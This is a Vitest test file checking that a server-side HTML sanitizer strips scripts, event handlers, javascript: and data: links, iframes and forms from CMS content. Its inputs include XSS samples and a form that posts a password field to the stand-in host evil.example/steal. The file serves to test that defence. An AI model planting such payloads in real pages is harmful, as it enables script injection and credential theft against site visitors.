// As the server's renderer cleans CMS texts: in the jsdom window the server makes and hands it.
import { describe, expect, it } from 'vitest';
import { domWindow } from '../../server/dom-window';
import { sanitizeHtml, sanitizeIn } from './sanitize-html';

describe('sanitizeHtml in the window the server hands it', () => {
  it('is one window per process', async () => {
    expect(await domWindow()).toBe(await domWindow());
  });

  it('drops scripts, handlers and javascript: links, and keeps the text', async () => {
    sanitizeIn(await domWindow());
    const clean = sanitizeHtml(
      '<h2>Privacy</h2><script>alert(1)</script><img src="x" onerror="alert(2)">' +
        '<a href="javascript:alert(3)">bad</a><p>Read <a href="/contact-us-page">us</a>.</p>',
    );
    expect(clean).toBe('<h2>Privacy</h2><a>bad</a><p>Read <a href="/contact-us-page">us</a>.</p>');
  });

  it('keeps only headings, paragraphs, lists, http/https/mailto links and emphasis (the /term-condition render)', async () => {
    sanitizeIn(await domWindow());
    const clean = sanitizeHtml(
      '<h1>Terms</h1><iframe src="https://evil.example"></iframe>' +
        '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>' +
        '<p style="color:red" onclick="x()">Be <em>kind</em>, <strong>fair</strong>.</p>' +
        '<ul><li><a href="https://a.example" target="_blank">web</a></li><li><a href="mailto:x@a.example">mail</a></li>' +
        '<li><a href="//evil.example">other host</a></li><li><a href="data:text/html,x">data</a></li></ul>',
    );
    expect(clean).toBe(
      '<h1>Terms</h1>Go<p>Be <em>kind</em>, <strong>fair</strong>.</p>' +
        '<ul><li><a href="https://a.example">web</a></li>' +
        '<li><a href="mailto:x@a.example">mail</a></li><li><a>other host</a></li><li><a>data</a></li></ul>',
    );
  });
});
